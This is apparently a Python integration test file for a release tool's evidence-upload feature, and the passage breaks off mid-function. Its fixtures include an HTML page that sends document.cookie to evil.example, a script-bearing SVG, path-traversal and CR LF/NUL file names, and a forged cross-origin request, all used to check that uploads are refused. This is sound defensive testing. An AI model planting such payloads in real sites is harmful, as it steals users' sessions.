"""test_evidence.py — information capture and evidence uploads checked by content (issue 6),
through the real stack (nginx → FastCGI → SQLite, libmagic).

Every fixture file is made here at run time: a hand-written PDF, a PNG built with zlib,
a JFIF header, text, a copy of /bin/true, HTML and SVG.  Each refusal is checked for its
status and message, its audit record, and for leaving no file (evidence/, tmp/) and no row.
"""
import hashlib
import html
import http.client
import os
import re
import shutil
import signal
import socket
import struct
import subprocess
import tempfile
import threading
import unittest
import zlib

import harness
from harness import ServerTestCase, poll

# ---------------------------------------------------------------- fixtures, made at run time


def make_pdf(text="All 42 tests passed"):
    """A small but real PDF 1.4: catalog, pages, one page with a text stream, xref, trailer."""
    stream = ("BT /F1 12 Tf 20 100 Td (%s) Tj ET" % text).encode()
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 144] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = b"%PDF-1.4\n"
    offsets = []
    for i, body in enumerate(objs, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    for off in offsets:
        out += b"%010d 00000 n \n" % off
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref)
    return out


def make_png(w=4, h=3):
    """A real RGB PNG: signature, IHDR, zlib-compressed IDAT (filter byte + pixels per row), IEND."""
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xffffffff)
    rows = []
    for y in range(h):
        pixels = bytes(v for x in range(w) for v in (x * 60 % 256, y * 80 % 256, 128))
        rows.append(b"\x00" + pixels)
    raw = b"".join(rows)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))


def make_jpeg():
    """The start of a JFIF file (SOI + APP0) and an end marker: enough for libmagic."""
    app0 = b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    return b"\xff\xd8\xff\xe0" + struct.pack(">H", len(app0) + 2) + app0 + b"\x00" * 64 + b"\xff\xd9"


TEXT = b"Test run 2026-11-21\nPassed: 42\nFailed: 0\n"
HTML_PAGE = (b"<!DOCTYPE html>\n<html><head><title>Report</title></head>\n"
             b"<body><script>document.location='https://evil.example/?c='+document.cookie</script></body></html>\n")
SVG_SCRIPT = (b'<?xml version="1.0" encoding="UTF-8"?>\n'
              b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
              b'<script>alert(document.domain)</script></svg>\n')


def elf_binary():
    with open("/bin/true", "rb") as f:
        return f.read()


CAPTURE_YAML = """\
apiVersion: holdpoint/v1
kind: ReleaseTemplate
name: capture
description: Every kind of field, for the evidence tests.
on_reject: fail_release
phases:
  - name: qa
    activities:
      - name: build
        type: automated
      - name: signoff
        type: approval
        depends_on: [build]
        approvers:
          rules: [{team: qa, min: 1}]
        fields:
          - {key: ticket, label: Change ticket, type: text, required: true, min_length: 5, max_length: 20,
             pattern: "^[A-Z]+-[0-9]+$", help: For example REL-42.}
          - {key: notes, label: Notes, type: textarea, max_length: 200}
          - {key: coverage, label: Coverage, type: number, required: true, min: 0, max: 100}
          - {key: passed, label: All critical tests passed, type: checkbox, required: true}
          - {key: risk, label: Risk level, type: select, required: true, options: [low, medium, high]}
          - {key: report, label: Test report, type: file, required: true,
             accept: [application/pdf, text/plain], max_size: 64KB}
          - {key: screens, label: Screenshots, type: file}
          - {key: small, label: Small log, type: file, accept: [text/plain], max_size: 1KB}
          - {key: big, label: Full log, type: file, accept: [text/plain], max_size: 300MB}
"""

MB = 1024 * 1024


def multipart(parts, boundary="hpTestB0undary7x"):
    """parts: (name, filename or None, data).  A str file name is sent as a quoted string
    (backslash and quote escaped, UTF-8); a bytes one is sent raw, as a hostile client would."""
    out = b""
    for name, filename, data in parts:
        out += b"--" + boundary.encode() + b"\r\n"
        cd = b'Content-Disposition: form-data; name="' + name.encode() + b'"'
        if filename is not None:
            if isinstance(filename, bytes):
                fn = filename
            else:
                fn = filename.replace("\\", "\\\\").replace('"', '\\"').encode()
            cd += b'; filename="' + fn + b'"'
        out += cd + b"\r\n"
        if filename is not None:
            out += b"Content-Type: application/octet-stream\r\n"
        out += b"\r\n" + data + b"\r\n"
    out += b"--" + boundary.encode() + b"--\r\n"
    return out, "multipart/form-data; boundary=" + boundary


def page_errors(text):
    """Every message the page shows next to a field ({input id: message}), unescaped."""
    errs = {}
    for m in re.finditer(r'<p class="error" id="([A-Za-z0-9_]+)-error">(.*?)</p>', text, re.S):
        if m.group(2).strip():
            errs[m.group(1)] = html.unescape(m.group(2).strip())
    for m in re.finditer(r'<li><a href="#([A-Za-z0-9_]+)">(.*?)</a></li>', text):
        errs.setdefault(m.group(1), html.unescape(m.group(2)))
    return errs


def vm_kb(pid, field):
    """A memory figure of /proc/PID/status in kB: "VmHWM:" (peak resident) or "VmRSS:"."""
    with open("/proc/%d/status" % pid) as f:
        for line in f:
            if line.startswith(field):
                return int(line.split()[1])
    raise AssertionError("no %s for %d" % (field, pid))


from harness import fcgi_record, fcgi_params  # noqa: E402  (shared FastCGI client)


class EvidenceTest(ServerTestCase):
    # 300 MiB in bytes: app.c compares "300M" with its 1024-byte minimum before applying the suffix.
    server_env = {"HOLDPOINT_MAX_UPLOAD": str(300 * 1024 * 1024), "HOLDPOINT_NGINX_MAX_BODY": "300m"}

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.tmp = tempfile.mkdtemp(prefix="holdpoint-evidence-")
        path = os.path.join(cls.tmp, "capture.yaml")
        with open(path, "w") as f:
            f.write(CAPTURE_YAML)
        cls.server.cli("template", "import", path)
        cls.api = cls.server.client(token=cls.server.demo_token())
        cls.nrel = 0

    @classmethod
    def tearDownClass(cls):
        shutil.rmtree(cls.tmp, ignore_errors=True)
        super().tearDownClass()

    # ------------------------------------------------------------ helpers

    def start(self, template="capture", wait_for=None):
        """A new release; its first automated activity passes, so wait_for goes on hold. Returns ids by name."""
        type(self).nrel += 1
        body = {"template": template, "name": "ev-%d" % self.nrel, "version": "1.%d" % self.nrel}
        if template == "delivery":
            body["variables"] = {"image": "registry/shop:1", "version": "1.%d" % self.nrel}
        r = self.api.request("POST", "/api/v1/releases", json_body=body)
        self.assertEqual(r.status, 201, r.text)
        acts = {a["name"]: a["id"] for p in r.json()["phases"] for a in p["activities"]}
        first = "deploy-qa" if template == "delivery" else "build"
        r = self.api.request("POST", "/api/v1/activities/%d/result" % acts[first], json_body={"result": "pass"})
        self.assertEqual(r.status, 200, r.text)
        wait_for = wait_for or ("qa-signoff" if template == "delivery" else "signoff")
        poll(lambda: self.server.sql("SELECT status FROM activities WHERE id=?", acts[wait_for])[0][0] == "on_hold",
             what=wait_for + " on hold")
        return acts

    def snapshot(self):
        """What a refusal must not change: stored files, temp files, evidence rows."""
        ev = set()
        for root, _dirs, files in os.walk(os.path.join(self.server.data, "evidence")):
            ev.update(os.path.join(root, f) for f in files)
        tmp = set(os.listdir(os.path.join(self.server.data, "tmp")))
        rows = self.server.sql("SELECT count(*) FROM evidence")[0][0]
        return ev, tmp, rows

    def assert_nothing_left(self, before):
        ev, tmp, rows = self.snapshot()
        self.assertEqual(ev, before[0], "a refused upload left a file in evidence/")
        self.assertEqual(tmp, set(), "a refused upload left a file in tmp/")
        self.assertEqual(rows, before[2], "a refused upload left a row")

    def upload(self, client, act, field, filename, data, csrf=True, api=False, parts=None):
        if parts is None:
            parts = []
            if api:
                pass                              # token requests carry no CSRF token
            elif csrf is True:
                parts.append(("csrf", None, client.csrf.encode()))
            elif csrf:
                parts.append(("csrf", None, csrf.encode()))
            if field is not None:
                parts.append(("field", None, field.encode()))
            if filename is not None or data is not None:
                parts.append(("file", filename, data or b""))
        body, ctype = multipart(parts)
        path = ("/api/v1/activities/%d/evidence" if api else "/activities/%d/evidence") % act
        return client.request("POST", path, body=body, headers={"Content-Type": ctype})

    def last_audit(self, action):
        rows = self.server.sql("SELECT actor_name, ip, session_hash, details_json FROM audit_log"
                               " WHERE action=? ORDER BY seq DESC LIMIT 1", action)
        self.assertTrue(rows, "no %s record" % action)
        import json
        return rows[0][0], rows[0][1], rows[0][2], json.loads(rows[0][3])

    def audit_count(self, action):
        return self.server.sql("SELECT count(*) FROM audit_log WHERE action=?", action)[0][0]

    def evidence_row(self, ev_id):
        return self.server.sql("SELECT activity_id, round, field_key, sha256, size, mime, original_name,"
                               " stored_path, uploaded_by, ip FROM evidence WHERE id=?", ev_id)[0]

    def newest_evidence(self):
        return self.server.sql("SELECT max(id) FROM evidence")[0][0]

    # ------------------------------------------------------------ accepted uploads

    def test_01_accepted_files_are_stored_by_content_hash(self):
        acts = self.start("delivery")
        act = acts["qa-signoff"]
        bob = self.login("bob")
        bob.get("/activities/%d" % act)
        pdf = make_pdf()
        r = self.upload(bob, act, "report", "report.pdf", pdf)
        self.assertEqual(r.status, 303, r.text[:500])
        self.assertEqual(r.header("Location"), "/activities/%d" % act)
        page = bob.get("/activities/%d" % act)
        self.assertIn("Uploaded report.pdf (application/pdf", page.text)
        ev_id = self.newest_evidence()
        a, rnd, key, sha, size, mime, name, stored, who, ip = self.evidence_row(ev_id)
        self.assertEqual((a, rnd, key, size, mime, name), (act, 1, "report", len(pdf), "application/pdf", "report.pdf"))
        self.assertEqual(sha, hashlib.sha256(pdf).hexdigest())
        self.assertEqual(stored, "evidence/%s/%s/%s" % (sha[:2], sha[2:4], sha))
        self.assertEqual(who, self.server.sql("SELECT id FROM users WHERE username='bob'")[0][0])
        self.assertEqual(ip, "127.0.0.1")
        with open(os.path.join(self.server.data, stored), "rb") as f:
            self.assertEqual(f.read(), pdf)
        actor, aip, sess, details = self.last_audit("evidence.upload")
        self.assertEqual(actor, "bob")
        self.assertEqual(aip, "127.0.0.1")
        self.assertRegex(sess, "^[0-9a-f]{64}$")
        self.assertEqual((details["name"], details["size"], details["type"], details["sha256"], details["field"]),
                         ("report.pdf", len(pdf), "application/pdf", sha, "report"))
        # listed on the activity, with type, size, hash, who
        self.assertIn('href="/evidence/%d">report.pdf</a>' % ev_id, page.text)
        self.assertIn(sha, page.text)
        self.assertIn("Bob Tester", page.text)
        # plain text is accepted in the same field; the same content twice is stored once
        r = self.upload(bob, act, "report", "run.log", TEXT)
        self.assertEqual(r.status, 303, r.text[:500])
        self.assertEqual(self.evidence_row(self.newest_evidence())[5], "text/plain")
        r = self.upload(bob, act, "report", "copy.pdf", pdf)
        self.assertEqual(r.status, 303)
        self.assertEqual(self.server.sql("SELECT count(DISTINCT stored_path), count(*) FROM evidence"
                                         " WHERE sha256=? AND activity_id=?", sha, act)[0], (1, 2))
        # images in a field without an accept list (the default list)
        acts = self.start()
        act = acts["signoff"]
        for name, data, mime in (("shot.png", make_png(), "image/png"), ("photo.jpg", make_jpeg(), "image/jpeg"),
                                 ("photo.JPEG", make_jpeg(), "image/jpeg")):
            r = self.upload(bob, act, "screens", name, data)
            self.assertEqual(r.status, 303, "%s: %s" % (name, r.text[:500]))
            self.assertEqual(self.evidence_row(self.newest_evidence())[5:7], (mime, name))
        # nothing on disk is named after the client
        for root, _dirs, files in os.walk(os.path.join(self.server.data, "evidence")):
            for f in files:
                self.assertRegex(f, "^[0-9a-f]{64}$")
        self.assertEqual(os.listdir(os.path.join(self.server.data, "tmp")), [])

    # ------------------------------------------------------------ refusals

    def test_02_refusals_by_content_size_and_name(self):
        acts = self.start()
        act = acts["signoff"]
        bob = self.login("bob")
        bob.get("/activities/%d" % act)
        cases = [
            # field, file name, content, status, phrases of the message
            ("report", "report.pdf", elf_binary(), 415, ["report.pdf is a Linux program", "application/x-", "not allowed",
                                                        '"Test report" accepts a PDF or plain text']),
            ("screens", "shot.png", HTML_PAGE, 415, ["shot.png is a web page (HTML)", "text/html", "not allowed"]),
            ("screens", "diagram.svg", SVG_SCRIPT, 415, ["image/svg+xml", "not allowed"]),
            ("report", "x.exe", make_pdf(), 422, ['"x.exe"', "application/pdf", ".pdf"]),
            ("report", "notes.pdf", TEXT, 422, ["says a PDF", "content is plain text (text/plain)", "end its name in .txt"]),
            ("report", "report", make_pdf(), 422, ["no extension"]),
            ("small", "big.log", b"x" * 1024 + b"\n", 413, ["larger than 1.0 KB"]),
            ("report", "empty.txt", b"", 422, ["empty"]),
            ("report", "", b"", 422, ["Choose a file"]),
            ("nope", "a.txt", TEXT, 422, ['no file field "nope"']),
            ("notes", "a.txt", TEXT, 422, ['no file field "notes"']),
            ("report", None, None, 422, ["Choose a file"]),
            (None, "a.txt", TEXT, 422, ["Say which field"]),
        ]
        for field, name, data, status, phrases in cases:
            with self.subTest(field=field, name=name, status=status):
                before = self.snapshot()
                nref = self.audit_count("evidence.refused")
                r = self.upload(bob, act, field, name, data)
                self.assertEqual(r.status, status, r.text[:300])
                errs = page_errors(r.text)
                key = "f_" + field if field in ("report", "screens", "small") else "evidence"
                self.assertIn(key, errs, "no message next to the field: %s" % errs)
                for p in phrases:
                    self.assertIn(p, errs[key])
                self.assertIn('action="/activities/%d/submit"' % act, r.text)     # the form is there again
                self.assertIn('data-upload="/activities/%d/evidence"' % act, r.text)
                self.assert_nothing_left(before)
                self.assertEqual(self.audit_count("evidence.refused"), nref + 1)
                actor, ip, _s, details = self.last_audit("evidence.refused")
                self.assertEqual((actor, ip, details["status"], details["reason"]), ("bob", "127.0.0.1", status, errs[key]))
                if status == 415:
                    self.assertIn(details["type"], errs[key])
                    self.assertEqual(details["sha256"], hashlib.sha256(data).hexdigest())
                    self.assertEqual(details["size"], len(data))
        # exactly at the limit is fine
        r = self.upload(bob, act, "small", "limit.log", b"y" * 1023 + b"\n")
        self.assertEqual(r.status, 303, r.text[:300])
        self.assertEqual(self.evidence_row(self.newest_evidence())[4], 1024)

    def test_03_refusal_keeps_the_attached_files_listed(self):
        acts = self.start()
        act = acts["signoff"]
        bob = self.login("bob")
        bob.get("/activities/%d" % act)
        self.assertEqual(self.upload(bob, act, "report", "first.pdf", make_pdf()).status, 303)
        r = self.upload(bob, act, "report", "evil.pdf", elf_binary())
        self.assertEqual(r.status, 415)
        block = r.text[r.text.index('id="f_report-files"'):]
        block = block[:block.index('id="f_report-error"')]
        self.assertIn(">first.pdf</a>", block)
        self.assertIn('type="file" id="f_report" name="f_report"', block)

    def test_04_malformed_bodies_are_refused_with_400(self):
        acts = self.start()
        act = acts["signoff"]
        bob = self.login("bob")
        bob.get("/activities/%d" % act)
        csrf = b"--B\r\nContent-Disposition: form-data; name=\"csrf\"\r\n\r\n" + bob.csrf.encode() + b"\r\n"
        field = b"--B\r\nContent-Disposition: form-data; name=\"field\"\r\n\r\nreport\r\n"
        many = b"".join(b"--B\r\nContent-Disposition: form-data; name=\"p%d\"\r\n\r\nx\r\n" % i for i in range(2000))
        bodies = {
            "NUL in the file name": csrf + field + b"--B\r\nContent-Disposition: form-data; name=\"file\"; "
                                    b"filename=\"a\x00.txt\"\r\n\r\nhello\r\n--B--\r\n",
            "CR LF in the file name": csrf + field + b"--B\r\nContent-Disposition: form-data; name=\"file\"; "
                                      b"filename=\"a\r\nb.txt\"\r\n\r\nhello\r\n--B--\r\n",
            "2000 parts": csrf + many + b"--B--\r\n",
            "no final boundary": csrf + field + b"--B\r\nContent-Disposition: form-data; name=\"file\"; "
                                 b"filename=\"a.txt\"\r\n\r\n" + TEXT,
            "huge header": csrf + field + b"--B\r\nContent-Disposition: form-data; name=\"file\"; filename=\""
                           + b"a" * 6000 + b".txt\"\r\n\r\nhello\r\n--B--\r\n",
            "unexpected part": csrf + b"--B\r\nContent-Disposition: form-data; name=\"other\"\r\n\r\nx\r\n--B--\r\n",
        }
        for what, body in bodies.items():
            with self.subTest(what=what):
                before = self.snapshot()
                nref = self.audit_count("evidence.refused")
                r = bob.request("POST", "/activities/%d/evidence" % act, body=body,
                                headers={"Content-Type": "multipart/form-data; boundary=B"})
                self.assertEqual(r.status, 400, r.text[:300])
                self.assert_nothing_left(before)
                self.assertEqual(self.audit_count("evidence.refused"), nref + 1)
        # the same through the API, as JSON
        before = self.snapshot()
        r = self.api.request("POST", "/api/v1/activities/%d/evidence" % act, body=bodies["2000 parts"].replace(csrf, b""),
                             headers={"Content-Type": "multipart/form-data; boundary=B"})
        self.assertEqual(r.status, 400)
        self.assertIn("Unexpected part", r.json()["error"]["message"])
        r = self.api.request("POST", "/api/v1/activities/%d/evidence" % act, body=b"field=report",
                             headers={"Content-Type": "application/x-www-form-urlencoded"})
        self.assertEqual(r.status, 415)
        self.assertIn("multipart/form-data", r.json()["error"]["message"])
        self.assert_nothing_left(before)

    def test_05_file_names_are_sanitised_for_display(self):
        acts = self.start()
        act = acts["signoff"]
        bob = self.login("bob")
        bob.get("/activities/%d" % act)
        long_name = "a" * 296 + ".txt"
        cases = [
            ("../../etc/passwd.txt", "passwd.txt"),
            ("C:\\Users\\bob\\notes.txt", "notes.txt"),
            ("a%0D%0Ab.txt", "a%0D%0Ab.txt"),            # how browsers send CR LF: kept as typed, harmless
            ("r\u00e9sum\u00e9.txt".encode(), "r\u00e9sum\u00e9.txt"),
            ("bidi\u202eFDP.txt".encode(), "bidiFDP.txt"),
            (long_name, "a" * 196 + ".txt"),
        ]
        for sent, stored in cases:
            with self.subTest(sent=sent):
                r = self.upload(bob, act, "report", sent, TEXT)
                self.assertEqual(r.status, 303, r.text[:300])
                self.assertEqual(self.evidence_row(self.newest_evidence())[6], stored)
        self.assertEqual(len(stored), 200)
        page = bob.get("/activities/%d" % act).text
        self.assertIn("r\u00e9sum\u00e9.txt", page)
        self.assertNotIn("../", page[page.index('id="evidence"'):])

    def test_06_csrf_token_must_be_the_first_part(self):
        acts = self.start()
        act = acts["signoff"]
        bob = self.login("bob")
        bob.get("/activities/%d" % act)
        attempts = {
            "no token": dict(csrf=False),
            "wrong token": dict(csrf="0" * 64),
            "token after the file": dict(parts=[("field", None, b"report"), ("file", "a.txt", TEXT),
                                                ("csrf", None, bob.csrf.encode())]),
        }
        for what, kw in attempts.items():
            with self.subTest(what=what):
                before = self.snapshot()
                n = self.audit_count("access.denied")
                r = self.upload(bob, act, "report", "a.txt", TEXT, **kw)
                self.assertEqual(r.status, 403, r.text[:300])
                self.assertIn("came from another site", r.text)
                self.assert_nothing_left(before)
                self.assertEqual(self.audit_count("access.denied"), n + 1)
        body, ctype = multipart([("csrf", None, bob.csrf.encode()), ("field", None, b"report"), ("file", "a.txt", TEXT)])
        r = bob.request("POST", "/activities/%d/evidence" % act, body=body,
                        headers={"Content-Type": ctype, "Origin": "https://evil.example"})
        self.assertEqual(r.status, 403)
        r = bob.request("POST", "/activities/%d/evidence" % act, body=body, headers={"Content-Type": ctype})
        self.assertEqual(r.status, 303)

    def test_07_who_may_upload_and_when(self):
        acts = self.start("delivery")
        bob, erin = self.login("bob"), self.login("erin")
        erin.get("/activities/%d" % acts["qa-signoff"])
        bob.get("/activities/%d" % acts["qa-signoff"])
        before = self.snapshot()
        r = self.upload(erin, acts["qa-signoff"], "report", "a.txt", TEXT)
        self.assertEqual(r.status, 403)
        self.assertIn("Only the people who may act on this activity", r.text)
        # an activity that is not on hold (production-approval is still pending)
        r = self.upload(bob, acts["production-approval"], "report", "a.txt", TEXT)
        self.assertEqual(r.status, 409)
        self.assertIn("not waiting for input", r.text)
        r = self.upload(self.api, acts["deploy-qa"], "report", "a.txt", TEXT, api=True)
        self.assertEqual(r.status, 409)
        self.assertIn("not waiting for input", r.json()["error"]["message"])
        r = self.upload(self.api, 999999, "report", "a.txt", TEXT, api=True)
        self.assertEqual(r.status, 404)
        self.assertEqual(int(self.server.sql("SELECT json_extract(details_json,'$.status') FROM audit_log"
                                             " WHERE action='evidence.refused' ORDER BY seq DESC LIMIT 1")[0][0]), 409)
        anon = self.client()
        r = self.upload(anon, acts["qa-signoff"], "report", "a.txt", TEXT, csrf=False)
        self.assertEqual(r.status, 403)
        self.assert_nothing_left(before)

    # ------------------------------------------------------------ downloads

    def test_08_download_through_nginx_with_safe_headers(self):
        acts = self.start()
        act = acts["signoff"]
        bob = self.login("bob")
        bob.get("/activities/%d" % act)
        pdf = make_pdf("download me")
        self.assertEqual(self.upload(bob, act, "report", "r\u00e9sum\u00e9 \"final\".pdf", pdf).status, 303)
        pdf_id = self.newest_evidence()
        self.assertEqual(self.upload(bob, act, "screens", "shot.png", make_png()).status, 303)
        png_id = self.newest_evidence()
        erin = self.login("erin")          # an auditor: any signed-in person may read evidence
        n = self.audit_count("evidence.download")
        r = erin.get("/evidence/%d" % pdf_id)
        self.assertEqual(r.status, 200)
        self.assertEqual(hashlib.sha256(r.body).hexdigest(), hashlib.sha256(pdf).hexdigest())
        self.assertEqual(r.header("Content-Type"), "application/pdf")
        self.assertEqual(r.header("Content-Disposition"),
                         "attachment; filename=\"r_sum_ _final_.pdf\"; "
                         "filename*=UTF-8''r%C3%A9sum%C3%A9%20%22final%22.pdf")
        self.assertEqual(r.header_all("X-Content-Type-Options"), ["nosniff"])
        csp = r.header_all("Content-Security-Policy")
        self.assertEqual(len(csp), 1, csp)
        self.assertIn("sandbox", csp[0])
        self.assertIn("default-src 'none'", csp[0])
        self.assertIsNone(r.header("X-Accel-Redirect"))
        self.assertEqual(self.audit_count("evidence.download"), n + 1)
        actor, ip, sess, details = self.last_audit("evidence.download")
        self.assertEqual((actor, ip, details["sha256"], details["name"]),
                         ("erin", "127.0.0.1", hashlib.sha256(pdf).hexdigest(), "r\u00e9sum\u00e9 \"final\".pdf"))
        self.assertRegex(sess, "^[0-9a-f]{64}$")
        # inline only for plain raster images, on request
        r = erin.get("/evidence/%d?inline=1" % png_id)
        self.assertEqual(r.status, 200)
        self.assertEqual(r.header("Content-Type"), "image/png")
        self.assertTrue(r.header("Content-Disposition").startswith("inline; "))
        self.assertIn("sandbox", r.header("Content-Security-Policy"))
        r = erin.get("/evidence/%d" % png_id)
        self.assertTrue(r.header("Content-Disposition").startswith("attachment; "))
        r = erin.get("/evidence/%d?inline=1" % pdf_id)
        self.assertTrue(r.header("Content-Disposition").startswith("attachment; "))
        # the API token can download too; strangers and direct paths cannot
        r = self.api.get("/api/v1/evidence/%d" % pdf_id)
        self.assertEqual((r.status, r.body), (200, pdf))
        r = self.client().get("/evidence/%d" % pdf_id)
        self.assertEqual(r.status, 303)
        self.assertTrue(r.header("Location").startswith("/login"))
        sha = hashlib.sha256(pdf).hexdigest()
        r = self.client().get("/_evidence/%s/%s/%s" % (sha[:2], sha[2:4], sha))
        self.assertEqual(r.status, 404)
        self.assertEqual(erin.get("/evidence/99999999").status, 404)

    # ------------------------------------------------------------ the fields form

    def test_09_inputs_errors_next_to_fields_and_typed_values_kept(self):
        acts = self.start()
        act = acts["signoff"]
        bob = self.login("bob")
        page = bob.get("/activities/%d" % act)
        for name in ("f_ticket", "f_notes", "f_coverage", "f_passed", "f_risk", "f_report"):
            self.assertIn('id="%s"' % name, page.text)
        self.assertEqual(self.upload(bob, act, "report", "kept.pdf", make_pdf()).status, 303)
        r = bob.post("/activities/%d/inputs" % act, {"inputs_form": "1", "f_ticket": "rel-42x", "f_notes": "keep <b>me</b>",
                                                     "f_coverage": "12,5", "f_risk": "extreme"})
        self.assertEqual(r.status, 422)
        errs = page_errors(r.text)
        self.assertIn("format", errs["f_ticket"])
        self.assertIn("number", errs["f_coverage"])
        self.assertIn("Tick", errs["f_passed"])
        self.assertIn("Choose one", errs["f_risk"])
        self.assertNotIn("f_notes", errs)
        self.assertIn('value="rel-42x"', r.text)
        self.assertIn("keep &lt;b&gt;me&lt;/b&gt;</textarea>", r.text)
        self.assertIn('value="12,5"', r.text)
        self.assertIn(">kept.pdf</a>", r.text)                      # uploaded files stay listed
        self.assertEqual(self.server.sql("SELECT count(*) FROM inputs WHERE activity_id=?", act)[0][0], 0)
        for value, phrase in (("R-1", "at least 5"), ("R" * 18 + "-12", "at most 20"), ("REL-42 ", "format")):
            r = bob.post("/activities/%d/inputs" % act, {"inputs_form": "1", "f_ticket": value, "f_coverage": "1",
                                                         "f_passed": "on", "f_risk": "low"})
            self.assertEqual(r.status, 422, value)
            self.assertIn(phrase, page_errors(r.text)["f_ticket"])
        r = bob.post("/activities/%d/inputs" % act, {"inputs_form": "1", "f_ticket": "REL-42", "f_coverage": "100.5",
                                                     "f_passed": "on", "f_risk": "low"})
        self.assertEqual(r.status, 422)
        self.assertIn("from 0 to 100", page_errors(r.text)["f_coverage"])
        # valid: saved for the round, audited, shown
        n = self.audit_count("input.save")
        r = bob.post("/activities/%d/inputs" % act, {"inputs_form": "1", "f_ticket": "REL-42", "f_notes": "caf\u00e9",
                                                     "f_coverage": "99.5", "f_passed": "on", "f_risk": "medium"})
        self.assertEqual(r.status, 303, r.text[:500])
        rows = dict(self.server.sql("SELECT field_key, value FROM inputs WHERE activity_id=? AND round=1", act))
        self.assertEqual(rows, {"ticket": "REL-42", "notes": "caf\u00e9", "coverage": "99.5", "passed": "on",
                                "risk": "medium"})
        self.assertEqual(self.audit_count("input.save"), n + 1)
        actor, _ip, _s, details = self.last_audit("input.save")
        self.assertEqual((actor, details["round"], details["values"]["ticket"]), ("bob", 1, "REL-42"))
        page = bob.get("/activities/%d" % act).text
        self.assertIn("Saved.", page)
        self.assertIn('value="REL-42"', page)
        self.assertRegex(page, r'<option value="medium"\s+selected>')
        # saving again replaces the values (one row per field and round)
        r = bob.post("/activities/%d/inputs" % act, {"inputs_form": "1", "f_ticket": "REL-43", "f_coverage": "0",
                                                     "f_risk": "high", "f_passed": "on"})
        self.assertEqual(r.status, 303)
        rows = dict(self.server.sql("SELECT field_key, value FROM inputs WHERE activity_id=? AND round=1", act))
        self.assertEqual(rows, {"ticket": "REL-43", "notes": "", "coverage": "0", "passed": "on", "risk": "high"})
        # someone who may not act sees the values read-only and cannot save
        erin = self.login("erin")
        page = erin.get("/activities/%d" % act).text
        self.assertIn("REL-43", page)
        self.assertNotIn('action="/activities/%d/submit"' % act, page)
        self.assertNotIn('type="file"', page)
        r = erin.post("/activities/%d/inputs" % act, {"inputs_form": "1", "f_ticket": "REL-99", "f_coverage": "1",
                                                      "f_passed": "on", "f_risk": "low"})
        self.assertEqual(r.status, 403)
        self.assertEqual(self.server.sql("SELECT value FROM inputs WHERE activity_id=? AND field_key='ticket'", act),
                         [("REL-43",)])
        r = bob.post("/activities/%d/inputs" % act, {"f_ticket": "REL-44"}, with_csrf=False)
        self.assertEqual(r.status, 403)
        r = bob.post("/activities/%d/inputs" % acts["build"], {"inputs_form": "1"})
        self.assertEqual(r.status, 409)

    # ------------------------------------------------------------ API and holdctl

    def test_10_api_upload_list_and_refusals(self):
        acts = self.start()
        act = acts["signoff"]
        pdf = make_pdf("from the pipeline")
        r = self.upload(self.api, act, "report", "ci-report.pdf", pdf, api=True)
        self.assertEqual(r.status, 201, r.text)
        ev = r.json()["evidence"]
        self.assertEqual((ev["name"], ev["type"], ev["size"], ev["sha256"], ev["field"], ev["uploaded_by"]),
                         ("ci-report.pdf", "application/pdf", len(pdf), hashlib.sha256(pdf).hexdigest(), "report", "alice"))
        self.assertEqual(ev["download"], "/evidence/%d" % ev["id"])
        _a, _ip, _s, details = self.last_audit("evidence.upload")
        self.assertEqual(details["via"], "api")
        for field, name, data, status, phrase in (
                ("report", "report.pdf", elf_binary(), 415, "not allowed"),
                ("screens", "x.png", HTML_PAGE, 415, "text/html"),
                ("report", "x.txt", make_pdf(), 422, "says plain text, but the content is a PDF"),
                ("small", "x.log", b"z" * 2048, 413, "larger than"),
                ("ghost", "x.txt", TEXT, 422, "no file field")):
            with self.subTest(name=name):
                before = self.snapshot()
                r = self.upload(self.api, act, field, name, data, api=True)
                self.assertEqual(r.status, status, r.text)
                self.assertIn(phrase, r.json()["error"]["message"])
                self.assert_nothing_left(before)
        r = self.api.get("/api/v1/activities/%d/evidence" % act)
        self.assertEqual(r.status, 200)
        listed = r.json()["evidence"]
        self.assertEqual([e["id"] for e in listed], [ev["id"]])
        r = self.server.client(token="hp_" + "0" * 64).request(
            "POST", "/api/v1/activities/%d/evidence" % act, body=b"", headers={"Content-Type": "multipart/form-data; boundary=B"})
        self.assertEqual(r.status, 401)

    def holdctl_upload_command(self):
        """build/holdctl once its dispatch has `upload`; until then a driver around cgi-src/cli/holdctl_upload.c."""
        env = dict(os.environ, HOLDPOINT_URL=self.server.url("/"), HOLDPOINT_TOKEN=self.server.demo_token())
        r = subprocess.run([harness.HOLDCTL, "upload"], env=env, capture_output=True, text=True, timeout=30)
        if "holdctl upload" in r.stderr and r.returncode == 3:
            return [harness.HOLDCTL, "upload"]
        driver = os.path.join(self.tmp, "holdctl-upload")
        if not os.path.exists(driver):
            src = os.path.join(self.tmp, "driver.c")
            with open(src, "w") as f:
                f.write("#include <stdlib.h>\n"
                        "int holdctl_upload(const char*, const char*, const char*, const char*, const char*);\n"
                        "int main(int argc, char **argv){ if( argc!=4 ) return 3;\n"
                        "  return holdctl_upload(getenv(\"HOLDPOINT_URL\"), getenv(\"HOLDPOINT_TOKEN\"),"
                        " argv[1], argv[2], argv[3]); }\n")
            cc = subprocess.run(["gcc", "-std=c11", "-Wall", "-Wextra", "-Werror", "-D_DEFAULT_SOURCE", src,
                                 os.path.join(harness.ROOT, "cgi-src", "cli", "holdctl_upload.c"), "-lcurl", "-ljansson",
